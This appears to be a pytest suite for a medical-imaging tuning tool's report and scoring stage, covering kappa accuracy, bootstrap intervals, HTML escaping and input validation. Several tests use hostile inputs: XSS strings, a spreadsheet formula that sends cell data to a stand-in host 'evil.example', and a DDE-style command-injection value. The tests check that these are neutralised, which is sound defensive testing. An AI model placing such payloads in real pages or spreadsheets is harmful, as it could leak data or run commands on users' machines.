"""The report stage and `muratune score`: kappas, bootstrap CIs, self-contained escaped HTML, agreement, errors."""

from __future__ import annotations

import json
import math
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from sklearn.metrics import cohen_kappa_score

from muratune.cli import main
from muratune.constants import BODY_PARTS, short_part
from muratune.errors import UserError
from muratune.report.score import score_file
from muratune.report.scoring import score_studies
from muratune.report.write import write_report

EVIL_NAME = "<img src=x onerror=alert(1)>"
EVIL_DIR = "x<script>alert(1)<script>"
HPARAMS = {
    "backbone": "resnet10t",
    "lr": 1e-3,
    "batch_size": 32,
    "finetune_depth": "all",
    "augment_policy": "flip",
    "weight_decay": 1e-4,
    "optimizer": "adamw",
}


def make_studies(n_per_part: int, accuracy: float, seed: int, parts=BODY_PARTS) -> pd.DataFrame:
    """Test-split study predictions: each prediction right with probability ``accuracy``."""
    rng = np.random.default_rng(seed)
    rows = []
    for part in parts:
        for i in range(n_per_part):
            label = int(rng.random() < 0.4)
            right = rng.random() < accuracy
            prob = float(np.clip((0.75 if label == right else 0.25) + rng.normal(0, 0.15), 0, 1))
            rows.append((f"MURA-v1.1/valid/{part}/patient{i:05d}/study1_x/", part, label, prob))
    frame = pd.DataFrame(rows, columns=["study_path", "body_part", "label", "prob"])
    frame["pred"] = (frame["prob"] >= 0.5).astype("Int64")
    frame["n_views"] = 2
    frame["threshold"] = 0.5
    return frame


def make_experiment(root: Path, n_per_part: int = 12) -> Path:
    """A finished experiment built without Ray: 3 trials (one pruned), per-trial test predictions, 2 ensembles."""
    exp = root / EVIL_DIR
    exp.mkdir(parents=True)
    config = {
        "name": EVIL_NAME,
        "budget": {"max_epochs": 3, "grace_period": 1, "reduction_factor": 3, "scheduler": "asha"},
        "resources": {"cpus_per_trial": 2, "gpus_per_trial": 0.5, "workers_per_trial": 1},
    }
    (exp / "resolved_config.yaml").write_text(yaml.safe_dump(config))
    trials = [("aaa", "COMPLETE", 3, 0.61), ("bbb", "PRUNED", 1, 0.40), ("ccc", "COMPLETE", 3, 0.55)]
    rows = []
    for k, (trial_id, state, epochs, kappa) in enumerate(trials):
        rows.append(
            {
                "trial_id": trial_id,
                "state": state,
                "epochs": epochs,
                "best_val_kappa": kappa,
                **HPARAMS,
                "best_epoch": epochs,
                "time_s": 3600.0 * (k + 1),
                "checkpoint": "",
                "trial_dir": "",
                "error": "",
            }
        )
        folder = exp / "trials" / f"trial_{trial_id}"
        folder.mkdir(parents=True)
        history = pd.DataFrame(
            {
                "epoch": range(1, epochs + 1),
                "val_kappa": np.linspace(0.1, kappa, epochs),
                "val_loss": np.linspace(0.7, 0.5, epochs),
                "time_this_iter_s": 10.0,
                "timestamp": 1_700_000_000 + 100 * k + 10 * np.arange(1, epochs + 1),
            }
        )
        history.to_csv(folder / "progress.csv", index=False)
        (exp / "trials_test").mkdir(exist_ok=True)
        make_studies(n_per_part, 0.7 + 0.05 * k, seed=k).to_parquet(exp / "trials_test" / f"{trial_id}.parquet")
    pd.DataFrame(rows).to_csv(exp / "search_summary.csv", index=False)
    for j, strategy in enumerate(("greedy", "top-k-mean")):
        folder = exp / "ensemble" / strategy
        folder.mkdir(parents=True)
        spec = {
            "strategy": strategy,
            "members": [{"name": "trial_aaa", "trial_id": "aaa", "path": "members/trial_aaa"}],
            "weights": {"all": [1.0]},
            "val_score": {"val_kappa": 0.7 - 0.1 * j},
            "thresholds_tuned": False,  # the old key: still read
        }
        (folder / "ensemble.json").write_text(json.dumps(spec))
        studies = make_studies(n_per_part, 0.85, seed=10 + j)
        studies.loc[0, ["prob", "pred"]] = [np.nan, pd.NA]  # a study with no readable view: scored as a miss
        studies.to_parquet(folder / "test_studies.parquet")
    return exp


@pytest.fixture()
def experiment(tmp_path: Path) -> Path:
    return make_experiment(tmp_path)


def sklearn_kappa(studies: pd.DataFrame) -> float:
    labels = studies["label"].to_numpy(dtype=int)
    preds = studies["pred"].astype("Float64").fillna(pd.Series(1 - labels, index=studies.index)).to_numpy(dtype=int)
    value = cohen_kappa_score(labels, preds, labels=[0, 1])
    return 0.0 if math.isnan(value) else float(value)


def source_studies(exp: Path, name: str) -> pd.DataFrame:
    if name.startswith("trial "):
        return pd.read_parquet(exp / "trials_test" / f"{name.removeprefix('trial ')}.parquet")
    return pd.read_parquet(exp / "ensemble" / name / "test_studies.parquet")


def test_every_leaderboard_kappa_matches_sklearn(experiment: Path, tmp_path: Path):
    out = write_report(experiment, tmp_path / "report", replicates=50, echo=lambda _: None)
    board = pd.read_csv(out / "leaderboard.csv")
    scored = board[board["kind"] != "reference"]
    assert set(scored["name"]) == {"greedy", "top-k-mean", "trial aaa", "trial bbb", "trial ccc"}
    for row in scored.itertuples():
        studies = source_studies(experiment, row.name)
        assert row.kappa_overall == pytest.approx(sklearn_kappa(studies), abs=1e-12)
        for part in BODY_PARTS:
            subset = studies[studies["body_part"] == part]
            assert getattr(row, f"kappa_{short_part(part)}") == pytest.approx(sklearn_kappa(subset), abs=1e-12)
    assert list(board["name"][:2]) == ["greedy", "top-k-mean"]  # ordered by internal-val kappa
    assert list(board["name"][2:5]) == ["trial aaa", "trial ccc", "trial bbb"]
    references = board[board["kind"] == "reference"]
    assert len(references) == 5 and references["kappa_overall"].max() == pytest.approx(0.843)
    assert board.loc[board["name"] == "trial ccc", "cpu_hours"].item() == pytest.approx(6.0)  # 3 h x 2 CPUs
    assert board.loc[board["name"] == "trial ccc", "gpu_hours"].item() == pytest.approx(1.5)


def test_cis_contain_the_estimate_and_narrow_with_more_studies():
    widths = []
    for n in (20, 80, 320):
        score = score_studies(make_studies(n, 0.8, seed=1), replicates=400, seed=0)
        assert (score["kappa_low"] <= score["kappa"] + 1e-12).all()
        assert (score["kappa"] <= score["kappa_high"] + 1e-12).all()
        widths.append(score.loc["overall", "kappa_high"] - score.loc["overall", "kappa_low"])
    assert widths[0] > widths[1] > widths[2]
    assert widths[2] < 0.5 * widths[0]  # width ~ 1/sqrt(n)


def test_bootstrap_is_stratified_and_order_independent():
    studies = make_studies(15, 0.8, seed=3)
    a = score_studies(studies, replicates=200, seed=5)
    b = score_studies(studies.sample(frac=1.0, random_state=0), replicates=200, seed=5)
    pd.testing.assert_frame_equal(a, b)
    assert not a.equals(score_studies(studies, replicates=200, seed=6))


def test_html_is_self_contained_and_escapes_names(experiment: Path, tmp_path: Path):
    out = write_report(experiment, tmp_path / "report", replicates=20, echo=lambda _: None)
    page = (out / "index.html").read_text()
    assert "http://" not in page and "https://" not in page
    assert "<script" not in page.lower()
    assert EVIL_NAME not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;script&gt;alert(1)&lt;script&gt;" in page  # the folder name, escaped
    sources = re.findall(r'(?:src|href)="([^"]*)"', page)
    assert sources and all(s.startswith("data:image/png;base64,") for s in sources)
    markdown = (out / "report.md").read_text()
    assert EVIL_NAME not in markdown and "<script" not in markdown
    for name in ("kappa", "roc", "confusion", "progress", "learning_curves"):
        assert (out / "plots" / f"{name}.png").read_bytes()[:4] == b"\x89PNG"
    assert "hidden MURA test" in page and "variance of kappa" in page


def test_score_agrees_with_report(experiment: Path, tmp_path: Path, capsys):
    out = write_report(experiment, tmp_path / "report", replicates=100, seed=3, echo=lambda _: None)
    board = pd.read_csv(out / "leaderboard.csv").set_index("name")
    studies = pd.read_parquet(experiment / "trials_test" / "ccc.parquet")
    predictions, labels = tmp_path / "pred.csv", tmp_path / "labels.csv"
    studies[["study_path", "pred", "prob"]].to_csv(predictions, header=False, index=False)
    studies.sample(frac=1.0, random_state=1)[["study_path", "label"]].to_csv(labels, header=False, index=False)
    score = score_file(predictions, labels, replicates=100, seed=3)
    row = board.loc["trial ccc"]
    for part in [*(short_part(p) for p in BODY_PARTS), "overall"]:
        for column in ("kappa", "kappa_low", "kappa_high"):
            suffix = column.removeprefix("kappa")
            assert score.loc[part, column] == pytest.approx(row[f"kappa_{part}{suffix}"], abs=1e-12)
    assert score.loc["overall", "auc"] == pytest.approx(row["auc"])
    with pytest.raises(SystemExit) as exit_info:
        main(["score", str(predictions), str(labels), "--replicates", "100", "--seed", "3"])
    assert exit_info.value.code == 0
    printed = capsys.readouterr().out
    assert re.search(rf"overall\s+{len(studies)}\s+{row['kappa_overall']:.3f}", printed)


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        (["{s0},1", "{s0},0"], "row 2: duplicate study"),
        (["{s0},1"], "not predicted"),
        (["{s0},1", "{s1},0", "MURA-v1.1/valid/XR_HAND/patient9/study1/,1"], "not in"),
        (["{s0},1", "{s1},yes"], "row 2: prediction must be 0 or 1"),
        (["{s0},1,0.9", "{s1},0"], "row 2: 2 columns"),
        (["{s0},1,1.5", "{s1},0,0.1"], "row 1: probability must be"),
        (["{s0}", "{s1},0"], "row 1: expected 2 or 3 columns"),
    ],
)
def test_score_rejects_bad_predictions(tmp_path: Path, lines: list[str], message: str, capsys):
    s0, s1 = "MURA-v1.1/valid/XR_WRIST/patient1/study1_positive/", "MURA-v1.1/valid/XR_WRIST/patient2/study1_negative/"
    labels = tmp_path / "labels.csv"
    labels.write_text(f"{s0},1\n{s1},0\n")
    predictions = tmp_path / "pred.csv"
    predictions.write_text("\n".join(line.format(s0=s0, s1=s1) for line in lines) + "\n")
    with pytest.raises(UserError, match=re.escape(message)) as err:
        score_file(predictions, labels, replicates=10)
    assert str(predictions) in str(err.value)
    with pytest.raises(SystemExit) as exit_info:
        main(["score", str(predictions), str(labels)])
    assert exit_info.value.code == 2
    assert "muratune: error:" in capsys.readouterr().err


def test_score_rejects_bad_labels(tmp_path: Path):
    labels = tmp_path / "labels.csv"
    labels.write_text("MURA-v1.1/valid/patient1/study1/,1\n")
    (tmp_path / "pred.csv").write_text("MURA-v1.1/valid/patient1/study1/,1\n")
    with pytest.raises(UserError, match=r"labels.csv, row 1: no XR_<BODY_PART>"):
        score_file(tmp_path / "pred.csv", labels)


def test_overwrite_is_refused(experiment: Path, capsys):
    write_report(experiment, replicates=10, echo=lambda _: None)
    assert (experiment / "report" / "index.html").is_file()
    with pytest.raises(UserError, match="already exists"):
        write_report(experiment, replicates=10, echo=lambda _: None)
    with pytest.raises(SystemExit) as exit_info:
        main(["report", str(experiment), "--replicates", "10"])
    assert exit_info.value.code == 2
    with pytest.raises(SystemExit) as exit_info:
        main(["report", str(experiment), "--replicates", "10", "--overwrite"])
    assert exit_info.value.code == 0


def test_report_without_test_predictions_or_ensembles(experiment: Path, tmp_path: Path):
    shutil.rmtree(experiment / "trials_test")
    shutil.rmtree(experiment / "ensemble")
    out = write_report(experiment, tmp_path / "report", replicates=10, echo=lambda _: None)
    board = pd.read_csv(out / "leaderboard.csv")
    trials = board[board["kind"] == "trial"]
    assert len(trials) == 3 and trials["kappa_overall"].isna().all()
    assert (trials["split"] == "internal val only").all() and trials["val_kappa"].notna().all()
    metrics = json.loads((out / "metrics.json").read_text())
    assert any("test predictions do not exist yet" in note for note in metrics["notes"])
    assert metrics["best"] is None


def test_parameter_importance_needs_completed_trials():
    import optuna

    from muratune.report.importance import param_importances

    optuna.logging.set_verbosity(optuna.logging.WARNING)
    study = optuna.create_study(direction="maximize", sampler=optuna.samplers.RandomSampler(seed=0))
    study.optimize(lambda t: t.suggest_float("lr", 1e-4, 1e-2, log=True) * 0 + t.suggest_int("bs", 1, 4), n_trials=2)
    values, note = param_importances(study)
    assert values == {} and "has 2" in note
    study.optimize(lambda t: t.suggest_float("lr", 1e-4, 1e-2, log=True) * 0 + t.suggest_int("bs", 1, 4), n_trials=6)
    values, note = param_importances(study)
    assert set(values) == {"lr", "bs"} and values["bs"] > values["lr"]


@pytest.mark.slow
def test_report_on_the_tiny_experiment(tiny_experiment: Path, tmp_path: Path):
    exp = tmp_path / "tiny"
    shutil.copytree(tiny_experiment, exp)
    out = write_report(exp, replicates=20, echo=lambda _: None)
    board = pd.read_csv(out / "leaderboard.csv")
    assert (board["kind"] == "trial").sum() == len(pd.read_csv(exp / "search_summary.csv").query("state != 'FAIL'"))
    assert (out / "plots" / "learning_curves.png").is_file() and (out / "plots" / "progress.png").is_file()


def test_cams_are_shown_when_exported(experiment: Path, tmp_path: Path):
    from matplotlib.figure import Figure

    from muratune.report.plots import to_png

    cams = experiment / "cams" / "greedy"
    (cams / "images").mkdir(parents=True)
    (cams / "score.json").write_text(json.dumps({"pointing_game": 0.75, "mean_iou": 0.31, "chance": 0.2}))
    (cams / "images" / "study1.png").write_bytes(to_png(Figure(figsize=(1, 1))))
    out = write_report(experiment, tmp_path / "report", replicates=10, echo=lambda _: None)
    page = (out / "index.html").read_text()
    assert "Class activation maps" in page and "pointing_game" in page and "0.750" in page
    assert page.count("data:image/png;base64,") == len(list((out / "plots").glob("*.png"))) + 1
    assert (out / "cams" / "study1.png").is_file()
    assert json.loads((out / "metrics.json").read_text())["cams"]["mean_iou"] == 0.31


def test_failed_trials_are_listed_with_their_reason(experiment: Path, tmp_path: Path):
    summary_csv = experiment / "search_summary.csv"
    summary = pd.read_csv(summary_csv)
    failed = summary.iloc[[0]].copy()
    failed["trial_id"], failed["state"] = "deadbeef", "FAIL"
    failed["error"] = "torch.OutOfMemoryError: CUDA out of memory <b>(simulated)</b>"
    pd.concat([summary, failed]).to_csv(summary_csv, index=False)
    out = write_report(experiment, tmp_path / "report", replicates=10, echo=lambda _: None)
    html = (out / "index.html").read_text()
    assert "Failed trials" in html and "deadbeef" in html
    assert "CUDA out of memory &lt;b&gt;(simulated)&lt;/b&gt;" in html
    assert "CUDA out of memory" in (out / "report.md").read_text()


def test_score_reads_a_bom_and_quoted_fields_and_shows_an_undefined_kappa_as_na(tmp_path: Path, capsys):
    wrist1 = "MURA-v1.1/valid/XR_WRIST/patient1/study1, left_positive/"
    wrist2 = "MURA-v1.1/valid/XR_WRIST/patient2/study1_negative/"
    hand = "MURA-v1.1/valid/XR_HAND/patient3/study1_negative/"  # one class, predicted right: kappa undefined
    labels, predictions = tmp_path / "labels.csv", tmp_path / "pred.csv"
    labels.write_bytes(b"\xef\xbb\xbf" + f'"{wrist1}",1\r\n{wrist2},0\r\n{hand},0\r\n'.encode())
    predictions.write_bytes(b"\xef\xbb\xbf" + f'"{wrist1}",1,0.9\n"{wrist2}",0,0.2\n{hand},0,0.1\n'.encode())
    before = labels.read_bytes(), predictions.read_bytes()
    score = score_file(predictions, labels, replicates=20)
    assert score.loc["wrist", "n"] == 2 and score.loc["wrist", "kappa"] == pytest.approx(1.0)
    assert math.isnan(score.loc["hand", "kappa"])  # never 0
    with pytest.raises(SystemExit) as exit_info:
        main(["score", str(predictions), str(labels), "--replicates", "20"])
    assert exit_info.value.code == 0
    [hand_line] = [line for line in capsys.readouterr().out.splitlines() if line.startswith("hand")]
    assert hand_line.split()[2:4] == ["n/a", "n/a"]
    assert (labels.read_bytes(), predictions.read_bytes()) == before


def test_an_undefined_kappa_is_null_in_json():
    from muratune.metrics import binary_metrics, defined_or_none

    metrics = binary_metrics(np.array([0, 0]), np.array([0.1, 0.2]))
    assert math.isnan(metrics["kappa"])
    assert json.loads(json.dumps(defined_or_none(metrics)))["kappa"] is None


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_a_tampered_strategy_never_reaches_the_leaderboard(experiment: Path, tmp_path: Path, capsys):
    spec_path = experiment / "ensemble" / "greedy" / "ensemble.json"
    spec_path.write_text(json.dumps({**json.loads(spec_path.read_text()), "strategy": FORMULA}))
    capsys.readouterr()
    with pytest.raises(SystemExit) as exit_info:
        main(["report", str(experiment), "--out", str(tmp_path / "report"), "--replicates", "10"])
    err = capsys.readouterr().err.strip()
    assert exit_info.value.code == 2 and "\n" not in err and "Traceback" not in err
    assert str(spec_path) in err and "strategy" in err and "unknown strategy" in err
    assert not (tmp_path / "report").exists()


def test_leaderboard_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers(experiment: Path, tmp_path: Path):
    import csv

    summary_csv = experiment / "search_summary.csv"
    summary = pd.read_csv(summary_csv)
    hostile = {
        "backbone": FORMULA,
        "augment_policy": "@SUM(1+1)*cmd|' /C calc'!A0",
        "optimizer": "-2+3",
        "finetune_depth": "+1+1",
        "lr": -0.001,
    }
    for column, value in hostile.items():
        summary[column] = summary[column].astype(object)
        summary.loc[0, column] = value
    summary.to_csv(summary_csv, index=False)
    out = write_report(experiment, tmp_path / "report", replicates=10, echo=lambda _: None)
    with open(out / "leaderboard.csv", newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r") or (c[:1] in ("+", "-") and not _is_number(c))], (
        cells
    )
    for value in (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1+1"):
        assert "'" + value in cells
    assert "-0.001" in cells  # a negative number is left alone
    board = pd.read_csv(out / "leaderboard.csv")
    assert board["kappa_overall"].dtype == float and board.loc[board["name"] == "trial aaa", "lr"].item() == -0.001


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_calibration_before_and_after_and_the_reliability_diagram(experiment: Path, tmp_path: Path):
    from muratune.ensemble.calibration import scale
    from muratune.metrics import brier_score, expected_calibration_error

    folder = experiment / "ensemble" / "greedy"
    studies = pd.read_parquet(folder / "test_studies.parquet")
    raw = studies["prob"].to_numpy()
    studies.insert(4, "prob_uncalibrated", raw)
    studies["prob"] = scale(raw, 2.0)
    studies.to_parquet(folder / "test_studies.parquet")
    spec = json.loads((folder / "ensemble.json").read_text())
    spec["calibration"] = {"method": "temperature", "fitted_on": "internal-val", "temperature": {"all": 2.0}}
    (folder / "ensemble.json").write_text(json.dumps(spec))
    out = write_report(experiment, tmp_path / "report", replicates=10, echo=lambda _: None)
    rows = {row["ensemble"]: row for row in json.loads((out / "metrics.json").read_text())["calibration"]}
    known = studies[studies["prob"].notna()]
    labels = known["label"].to_numpy()
    greedy = rows["greedy"]
    assert greedy["calibration"] == "temperature (internal-val)"
    assert greedy["ece_before"] == pytest.approx(expected_calibration_error(labels, known["prob_uncalibrated"]))
    assert greedy["ece_after"] == pytest.approx(expected_calibration_error(labels, known["prob"]))
    assert greedy["brier_after"] == pytest.approx(brier_score(labels, known["prob"]))
    assert greedy["ece_after"] != pytest.approx(greedy["ece_before"])
    plain = rows["top-k-mean"]  # written before calibration existed: before and after are the same
    assert plain["calibration"] == "none" and plain["ece_before"] == plain["ece_after"] is not None
    assert (out / "plots" / "reliability.png").stat().st_size > 0
    assert "## Calibration (test split)" in (out / "report.md").read_text()
    assert "Reliability diagram" in (out / "index.html").read_text()
